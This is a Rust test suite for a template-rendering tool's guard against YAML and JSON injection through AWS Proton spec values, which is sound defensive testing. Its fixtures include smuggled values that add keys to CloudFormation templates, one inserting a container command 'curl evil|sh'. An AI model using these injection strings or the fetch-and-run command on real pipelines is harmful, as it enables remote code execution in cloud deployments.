//! Spec values cannot change a template's structure (issue #10, item 4): `render` fails when a user value
//! leaves its scalar or does not survive it, `--allow-unsafe-values` renders as Proton would with a
//! warning, `check` warns about free-text inputs printed without `| tojson`; benign values and our
//! synthesized bundles (which use `| tojson`) stay clean.

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};

use proton_synth::app::SynthOptions;
use proton_synth::engine::{
    check_bundle, load_bundle, load_context_file, render_with_report, Finding, Only, RenderContext, RenderReport,
};

#[path = "../examples/lb_fargate_svc.rs"]
mod lb_fargate_svc;
#[path = "../examples/private_microservices.rs"]
mod private_microservices;
#[path = "../examples/serverless_api.rs"]
mod serverless_api;

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn samples() -> PathBuf {
    root().join("tests/fixtures/aws-samples/loadbalanced-fargate-svc")
}

fn temp_dir(name: &str) -> PathBuf {
    static N: AtomicUsize = AtomicUsize::new(0);
    let n = N.fetch_add(1, Ordering::SeqCst);
    let dir = std::env::temp_dir().join(format!("proton-guard-{}-{n}-{name}", std::process::id()));
    let _ = fs::remove_dir_all(&dir);
    fs::create_dir_all(&dir).unwrap();
    dir
}

fn sample_context() -> RenderContext {
    load_context_file(&root().join("tests/fixtures/local/sample-context.yaml")).unwrap()
}

fn allowing(mut ctx: RenderContext) -> RenderContext {
    ctx.allow_unsafe_values = true;
    ctx
}

fn render(bundle: &Path, spec: &str, ctx: &RenderContext) -> Result<RenderReport, Vec<Finding>> {
    render_with_report(&load_bundle(bundle).unwrap(), "spec.yaml", spec, ctx)
}

fn messages(findings: &[Finding]) -> String {
    findings.iter().map(|f| format!("\n  {f}")).collect()
}

/// The one error among `findings`, which must be located in `file` (a suffix) at `line`.
fn single_error<'a>(findings: &'a [Finding], file: &str, line: usize) -> &'a Finding {
    let errors: Vec<&Finding> = findings.iter().filter(|f| f.is_error()).collect();
    assert_eq!(errors.len(), 1, "{}", messages(findings));
    let e = errors[0];
    assert!(
        e.file.as_deref().is_some_and(|f| f.ends_with(file)),
        "{}",
        messages(findings)
    );
    assert_eq!(e.line, Some(line), "{}", messages(findings));
    e
}

fn env_spec(vpc_cidr: &str) -> String {
    format!(
        "proton: EnvironmentSpec\nspec:\n  vpc_cidr: {}\n",
        serde_json::to_string(vpc_cidr).unwrap()
    )
}

fn svc_spec(image: &str) -> String {
    format!(
        "proton: ServiceSpec\npipeline: {{}}\ninstances:\n  - name: frontend-dev\n    environment: Beta\n    spec:\n      image: {}\n",
        serde_json::to_string(image).unwrap()
    )
}

const CIDR_INJECTION: &str = "x'\n      Injected: yes\n      Foo: '10.0.0.0/16";
const IMAGE_INJECTION: &str = "nginx'\n          Command: ['sh','-c','curl evil|sh']\n          Foo: 'x";

// ----------------------------------------------------------------------------------------------------------
// render

#[test]
fn cidr_injection_into_the_sample_environment_fails_with_the_input_and_template_line() {
    let env = samples().join("environment");
    let e = render(&env, &env_spec(CIDR_INJECTION), &sample_context()).unwrap_err();
    let f = single_error(&e, "environment/infrastructure/cloudformation.yaml", 8);
    for part in [
        "the value of spec.yaml: spec.vpc_cidr",
        "changes the structure of environment.yaml",
        "does not stay inside one YAML scalar",
        "lines 8-10 of the output",
        "`{{ environment.inputs.vpc_cidr | tojson }}`",
        "anchored `pattern`",
        "--allow-unsafe-values",
    ] {
        assert!(f.message.contains(part), "{part:?} not in {f}");
    }
}

#[test]
fn allow_unsafe_values_renders_the_injection_as_proton_would_with_a_warning() {
    let env = samples().join("environment");
    let report = render(&env, &env_spec(CIDR_INJECTION), &allowing(sample_context())).unwrap();
    let text = &report.files[0].text;
    assert!(
        text.contains("      CIDR: 'x'\n      Injected: yes\n      Foo: '10.0.0.0/16'\n"),
        "{text}"
    );
    assert_eq!(report.warnings.len(), 1, "{}", messages(&report.warnings));
    let w = &report.warnings[0];
    assert!(!w.is_error());
    assert_eq!(w.line, Some(8));
    assert!(
        w.message.contains("spec.yaml: spec.vpc_cidr") && w.message.contains("rendered anyway"),
        "{w}"
    );
}

#[test]
fn image_injection_into_the_sample_service_fails_and_is_renderable_when_allowed() {
    let svc = samples().join("service");
    let e = render(&svc, &svc_spec(IMAGE_INJECTION), &sample_context()).unwrap_err();
    let f = single_error(&e, "service/instance_infrastructure/cloudformation.yaml", 44);
    assert!(
        f.message.contains("the value of spec.yaml: instances[0].spec.image"),
        "{f}"
    );
    assert!(
        f.message.contains("`{{ service_instance.inputs.image | tojson }}`"),
        "{f}"
    );

    let report = render(&svc, &svc_spec(IMAGE_INJECTION), &allowing(sample_context())).unwrap();
    let instance = &report.files[0];
    assert_eq!(instance.name, "instance-frontend-dev.yaml");
    assert!(
        instance
            .text
            .contains("          Command: ['sh','-c','curl evil|sh']\n"),
        "{}",
        instance.text
    );
    assert!(report.warnings.iter().all(|w| !w.is_error() && w.line == Some(44)));
}

#[test]
fn a_line_break_folded_in_a_single_quoted_placeholder_is_reported() {
    let env = samples().join("environment");
    let e = render(&env, &env_spec("10.0.0.0/16\n        10.1.0.0/16"), &sample_context()).unwrap_err();
    let f = single_error(&e, "environment/infrastructure/cloudformation.yaml", 8);
    assert!(f.message.contains("its line break does not survive"), "{f}");
    assert!(f.message.contains("\"10.0.0.0/16 10.1.0.0/16\""), "{f}");
}

#[test]
fn a_quote_doubled_in_a_single_quoted_placeholder_is_reported() {
    let svc = samples().join("service");
    let e = render(&svc, &svc_spec("it''s"), &sample_context()).unwrap_err();
    let f = single_error(&e, "service/instance_infrastructure/cloudformation.yaml", 44);
    assert!(
        f.message
            .contains("it does not survive: YAML reads the scalar as \"it's\""),
        "{f}"
    );
}

#[test]
fn context_values_are_guarded_too() {
    let svc = samples().join("service");
    let mut ctx = sample_context();
    ctx.service.branch_name = Some("main'\n                Evil: 'x".to_owned());
    let spec = fs::read_to_string(samples().join("specs/svc-spec.yaml")).unwrap();
    let e = render(&svc, &spec, &ctx).unwrap_err();
    let f = single_error(&e, "service/pipeline_infrastructure/cloudformation.yaml", 555);
    assert!(
        f.message.contains("context: service.branch_name (--branch-name)"),
        "{f}"
    );
    assert!(f.message.contains("or correct the value"), "{f}");
}

#[test]
fn benign_values_in_the_samples_are_not_flagged() {
    let env = samples().join("environment");
    let report = render(&env, &env_spec("10.1.0.0/16"), &sample_context()).unwrap();
    assert!(report.warnings.is_empty(), "{}", messages(&report.warnings));
    let svc = samples().join("service");
    let mut ctx = sample_context();
    ctx.service.name = Some("front-end-v2_x".to_owned());
    for image in [
        "public.ecr.aws/nginx/nginx:1.25",
        "nginx@sha256:0123abcd",
        "my registry/app: v1 # tag",
    ] {
        let report = render(&svc, &svc_spec(image), &ctx).unwrap_or_else(|e| panic!("{image}: {}", messages(&e)));
        assert!(report.warnings.is_empty(), "{image}: {}", messages(&report.warnings));
        assert!(report.files[0].text.contains(&format!("Image: '{image}'")));
    }
}

/// An environment bundle whose template prints its inputs in the ways that keep a value whole.
fn benign_bundle(dir: &Path) -> PathBuf {
    let bundle = dir.join("env");
    fs::create_dir_all(bundle.join("schema")).unwrap();
    fs::create_dir_all(bundle.join("infrastructure")).unwrap();
    let props: String = ["display", "suffix", "note", "cut", "json"]
        .iter()
        .map(|p| format!("        {p}:\n          type: string\n"))
        .collect();
    let schema = format!(
        "schema:\n  format:\n    openapi: \"3.0.0\"\n  environment_input_type: \"In\"\n  types:\n    In:\n      type: object\n      properties:\n{props}"
    );
    fs::write(bundle.join("schema/schema.yaml"), schema).unwrap();
    fs::copy(
        samples().join("environment/infrastructure/manifest.yaml"),
        bundle.join("infrastructure/manifest.yaml"),
    )
    .unwrap();
    let template = r#"Resources:
  Topic:
    Type: AWS::SNS::Topic
    Properties:
      DisplayName: {{ environment.inputs.display | tojson }}
      TopicName: !Sub "${AWS::StackName}-{{ environment.inputs.suffix }}"
      Tags:
        - Key: note # {{ environment.inputs.suffix }}
          Value: '{{ environment.inputs.note | lower }}'
        - Key: cut
          Value: '{{ environment.inputs.cut | truncate(9, true) | replace("\n", " ") }}'
        - Key: json
          Value: '{{ environment.inputs.json | tojson }}'
"#;
    fs::write(bundle.join("infrastructure/cloudformation.yaml"), template).unwrap();
    bundle
}

#[test]
fn tojson_sub_comments_and_filters_are_not_flagged() {
    let dir = temp_dir("benign");
    let bundle = benign_bundle(&dir);
    let spec = "proton: EnvironmentSpec\nspec:\n  display: \"a: b # c 'd' \\\"e\\\"\\nf\"\n  suffix: \"x y:z\"\n  note: \"Hello: World\"\n  cut: \"a: b\\n  Evil: c\"\n  json: \"it's: \\\"q\\\"\"\n";
    let report = render(&bundle, spec, &sample_context()).unwrap_or_else(|e| panic!("{}", messages(&e)));
    assert!(report.warnings.is_empty(), "{}", messages(&report.warnings));
    let text = &report.files[0].text;
    assert!(
        text.contains(r#"DisplayName: "a: b # c \u0027d\u0027 \"e\"\nf""#),
        "{text}"
    );
    assert!(text.contains(r#"TopicName: !Sub "${AWS::StackName}-x y:z""#), "{text}");
    assert!(text.contains("Value: 'hello: world'"), "{text}");
    fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_lowercased_injection_is_still_found() {
    let dir = temp_dir("lower");
    let bundle = benign_bundle(&dir);
    let spec = "proton: EnvironmentSpec\nspec:\n  display: d\n  suffix: s\n  note: \"X'\\n          Evil: 'Y\"\n  cut: c\n  json: j\n";
    let e = render(&bundle, spec, &sample_context()).unwrap_err();
    let f = single_error(&e, "env/infrastructure/cloudformation.yaml", 9);
    assert!(f.message.contains("spec.yaml: spec.note"), "{f}");
    fs::remove_dir_all(&dir).unwrap();
}

// ----------------------------------------------------------------------------------------------------------
// check

fn free_text_warnings(bundle: &Path) -> Vec<(String, usize, String)> {
    let findings = check_bundle(&load_bundle(bundle).unwrap());
    assert!(findings.iter().all(|f| !f.is_error()), "{}", messages(&findings));
    findings
        .iter()
        .filter(|f| f.message.contains("free text printed without `| tojson`"))
        .map(|f| {
            let file = f.file.clone().unwrap_or_default();
            let short = file
                .rsplit_once("loadbalanced-fargate-svc/")
                .map_or(file.clone(), |(_, s)| s.to_owned());
            let input = f.message.split('`').nth(1).unwrap_or_default().to_owned();
            (short, f.line.unwrap_or(0), input)
        })
        .collect()
}

#[test]
fn check_warns_about_the_samples_free_text_inputs() {
    let env = free_text_warnings(&samples().join("environment"));
    let file = "environment/infrastructure/cloudformation.yaml";
    assert_eq!(
        env,
        [(8, "vpc_cidr"), (10, "subnet_one_cidr"), (12, "subnet_two_cidr")].map(|(l, i)| (
            file.to_owned(),
            l,
            i.to_owned()
        ))
    );
    let svc = free_text_warnings(&samples().join("service"));
    let got: Vec<(usize, &str)> = svc.iter().map(|(_, l, i)| (*l, i.as_str())).collect();
    // `task_size` (an enum), `port` and `desired_count` (numbers) are not free text.
    assert_eq!(got, [(44, "image"), (51, "unit_test_command"), (62, "dockerfile")]);
    let message = check_bundle(&load_bundle(&samples().join("service")).unwrap())
        .into_iter()
        .find(|f| f.line == Some(44))
        .unwrap()
        .to_string();
    assert!(
        message.ends_with("service/instance_infrastructure/cloudformation.yaml:44: input `image` of LoadBalancedServiceInput is free text printed without `| tojson`: a value with a quote, `: ` or a line break can add keys to the rendered template; write `{{ service_instance.inputs.image | tojson }}` (unquoted), or give the input an `enum` or an anchored `pattern` (e.g. `^[A-Za-z0-9._/-]+$`) in the schema"),
        "{message}"
    );
}

#[test]
fn an_anchored_pattern_or_tojson_silences_the_check() {
    let dir = temp_dir("anchored");
    let bundle = dir.join("environment");
    copy_dir(&samples().join("environment"), &bundle);
    let schema = bundle.join("schema/schema.yaml");
    let text = fs::read_to_string(&schema).unwrap();
    let anchored = text.replacen(
        r"pattern: ([0-9]{1,3}\.){3}[0-9]{1,3}($|/(16|24))",
        r"pattern: ^([0-9]{1,3}\.){3}[0-9]{1,3}(/(16|24))?$",
        1,
    );
    assert_ne!(anchored, text);
    fs::write(&schema, anchored).unwrap();
    let cfn = bundle.join("infrastructure/cloudformation.yaml");
    let text = fs::read_to_string(&cfn).unwrap();
    fs::write(
        &cfn,
        text.replacen(
            "'{{ environment.inputs.subnet_one_cidr}}'",
            "{{ environment.inputs.subnet_one_cidr | tojson }}",
            1,
        ),
    )
    .unwrap();
    let got: Vec<String> = free_text_warnings(&bundle).into_iter().map(|(_, _, i)| i).collect();
    assert_eq!(got, ["subnet_two_cidr"]);
    fs::remove_dir_all(&dir).unwrap();
}

fn copy_dir(from: &Path, to: &Path) {
    fs::create_dir_all(to).unwrap();
    for entry in fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            fs::copy(entry.path(), target).unwrap();
        }
    }
}

// ----------------------------------------------------------------------------------------------------------
// Our synthesized bundles

#[test]
fn synthesized_bundles_check_clean_and_keep_hostile_values_whole() {
    let dir = temp_dir("synth");
    let apps = [
        ("lb_fargate_svc", lb_fargate_svc::app()),
        ("private_microservices", private_microservices::app()),
        ("serverless_api", serverless_api::app()),
    ];
    for (example, app) in apps {
        let s = app
            .synth(&SynthOptions::default())
            .unwrap_or_else(|e| panic!("{example}: {e}"));
        let out = dir.join(example);
        s.assembly.write_atomic(&out).unwrap();
        for p in &s.proton {
            let bundle = out.join("proton/bundles").join(&p.output.name);
            let findings = check_bundle(&load_bundle(&bundle).unwrap());
            assert!(
                findings.iter().all(|f| !f.message.contains("free text")),
                "{example}/{}: {}",
                p.output.name,
                messages(&findings)
            );
        }
    }
    // The injections that break AWS's sample land as whole strings in our port of it.
    let seed = dir.join("lb_fargate_svc/proton/bundles");
    let report = render(&seed.join("public-vpc"), &env_spec(CIDR_INJECTION), &sample_context())
        .unwrap_or_else(|e| panic!("{}", messages(&e)));
    assert!(report.warnings.is_empty(), "{}", messages(&report.warnings));
    assert!(!report.files[0].text.contains("\n      Injected: yes"));
    let ctx = RenderContext {
        only: Only::Instances,
        ..sample_context()
    };
    let report = render(&seed.join("lb-fargate-service"), &svc_spec(IMAGE_INJECTION), &ctx)
        .unwrap_or_else(|e| panic!("{}", messages(&e)));
    assert!(report.warnings.is_empty(), "{}", messages(&report.warnings));
    let instance = &report.files[0].text;
    // Jinja2's `tojson` escapes `'` as `\u0027`.
    let json = serde_json::to_string(IMAGE_INJECTION).unwrap().replace('\'', "\\u0027");
    assert!(instance.contains(&format!("Image: {json}")), "{instance}");
    fs::remove_dir_all(&dir).unwrap();
}

// ----------------------------------------------------------------------------------------------------------
// Command line

#[test]
fn the_render_command_fails_without_the_flag_and_writes_with_it() {
    let dir = temp_dir("cli");
    let spec = dir.join("spec.yaml");
    fs::write(&spec, env_spec(CIDR_INJECTION)).unwrap();
    let out = dir.join("out");
    let run = |extra: &[&str]| {
        let mut argv: Vec<std::ffi::OsString> = vec!["prog".into(), "render".into()];
        argv.push(samples().join("environment").into());
        argv.extend(["--spec".into(), spec.clone().into(), "--out".into(), out.clone().into()]);
        argv.extend([
            "--context".into(),
            root().join("tests/fixtures/local/sample-context.yaml").into(),
        ]);
        argv.extend(extra.iter().map(Into::into));
        proton_synth::app::App::new("guard-cli").run_with(argv)
    };
    assert_eq!(run(&[]), 1);
    assert!(!out.exists(), "a failed render writes nothing");
    assert_eq!(run(&["--allow-unsafe-values"]), 0);
    let text = fs::read_to_string(out.join("environment.yaml")).unwrap();
    assert!(text.contains("\n      Injected: yes\n"), "{text}");
    fs::remove_dir_all(&dir).unwrap();
}

/// A bundle whose block filter output (re-indented after rendering) comes before a quoted placeholder.
fn block_filter_bundle(dir: &Path) -> PathBuf {
    let bundle = benign_bundle(dir);
    let template = r#"Resources:
  Fn:
    Type: AWS::Lambda::Function
    Properties:
      Environment:
        Variables:
          {{ {"A": environment.inputs.display, "B": environment.inputs.display} | proton_cfn_lambda_function_formatted_env_vars }}
      Description: '{{ environment.inputs.note }}'
"#;
    fs::write(bundle.join("infrastructure/cloudformation.yaml"), template).unwrap();
    bundle
}

#[test]
fn offsets_follow_the_re_indented_block_filter_output() {
    let dir = temp_dir("block");
    let bundle = block_filter_bundle(&dir);
    let spec = |note: &str| {
        format!(
            "proton: EnvironmentSpec\nspec:\n  display: \"hello world\"\n  suffix: s\n  note: {}\n  cut: c\n  json: j\n",
            serde_json::to_string(note).unwrap()
        )
    };
    let report = render(&bundle, &spec("a: b"), &sample_context()).unwrap_or_else(|e| panic!("{}", messages(&e)));
    assert!(report.warnings.is_empty(), "{}", messages(&report.warnings));
    let text = &report.files[0].text;
    assert!(
        text.contains("          A: hello world\n          B: hello world\n      Description: 'a: b'\n"),
        "{text}"
    );
    let e = render(&bundle, &spec("a'\n      Evil: 'b"), &sample_context()).unwrap_err();
    let f = single_error(&e, "env/infrastructure/cloudformation.yaml", 8);
    assert!(
        f.message.contains("spec.yaml: spec.note") && f.message.contains("lines 9-10 of the output"),
        "{f}"
    );
    fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_value_that_breaks_the_yaml_is_named_in_the_parse_error() {
    let svc = samples().join("service");
    let e = render(&svc, &svc_spec("nginx'latest"), &sample_context()).unwrap_err();
    let f = single_error(&e, "instance-frontend-dev.yaml", 44);
    assert!(f.message.starts_with("invalid YAML: "), "{f}");
    let want = "; the value of spec.yaml: instances[0].spec.image (\"nginx'latest\") is printed there by line 44 \
                of the template: write the placeholder unquoted as `{{ service_instance.inputs.image | tojson }}`";
    assert!(f.message.ends_with(want), "{f}");
}

#[test]
fn a_json_template_gaining_a_key_is_flagged() {
    let dir = temp_dir("json");
    let bundle = benign_bundle(&dir);
    let infra = bundle.join("infrastructure");
    fs::remove_file(infra.join("cloudformation.yaml")).unwrap();
    let manifest = fs::read_to_string(infra.join("manifest.yaml")).unwrap();
    fs::write(
        infra.join("manifest.yaml"),
        manifest.replace("cloudformation.yaml", "cloudformation.json"),
    )
    .unwrap();
    let template = "{\n  \"Resources\": {\n    \"Topic\": {\n      \"Type\": \"AWS::SNS::Topic\",\n      \"Properties\": {\n        \"DisplayName\": \"{{ environment.inputs.display }}\",\n        \"TopicName\": {{ environment.inputs.suffix | tojson }}\n      }\n    }\n  }\n}\n";
    fs::write(infra.join("cloudformation.json"), template).unwrap();
    let spec = |display: &str| {
        format!(
            "proton: EnvironmentSpec\nspec:\n  display: {}\n  suffix: \"a\\\", \\\"Evil\\\": \\\"b\"\n  note: x\n  cut: c\n  json: j\n",
            serde_json::to_string(display).unwrap()
        )
    };
    let report =
        render(&bundle, &spec("a: b {c} [d]"), &sample_context()).unwrap_or_else(|e| panic!("{}", messages(&e)));
    assert_eq!(report.files[0].name, "environment.json");
    assert!(report.warnings.is_empty(), "{}", messages(&report.warnings));
    let e = render(&bundle, &spec("x\", \"Evil\": \"y"), &sample_context()).unwrap_err();
    let f = single_error(&e, "env/infrastructure/cloudformation.json", 6);
    assert!(
        f.message.contains("spec.yaml: spec.display") && f.message.contains("environment.json"),
        "{f}"
    );
    fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn unquoted_placeholders_catch_tags_and_comments_and_keep_plain_text() {
    let dir = temp_dir("plain");
    let bundle = benign_bundle(&dir);
    let template = "Resources:\n  Topic:\n    Type: AWS::SNS::Topic\n    Properties:\n      DisplayName: {{ environment.inputs.note }}\n";
    fs::write(bundle.join("infrastructure/cloudformation.yaml"), template).unwrap();
    let spec = |note: &str| {
        format!(
            "proton: EnvironmentSpec\nspec:\n  display: d\n  suffix: s\n  note: {}\n  cut: c\n  json: j\n",
            serde_json::to_string(note).unwrap()
        )
    };
    let ok = render(&bundle, &spec("plain text, with a comma"), &sample_context()).unwrap();
    assert!(ok.warnings.is_empty(), "{}", messages(&ok.warnings));
    for hostile in ["!Sub ${AWS::AccountId}", "cut here #rest", "[a, b]"] {
        let e = render(&bundle, &spec(hostile), &sample_context()).unwrap_err();
        let f = single_error(&e, "env/infrastructure/cloudformation.yaml", 5);
        assert!(
            f.message.contains("does not stay inside one YAML scalar"),
            "{hostile}: {f}"
        );
    }
    fs::remove_dir_all(&dir).unwrap();
}
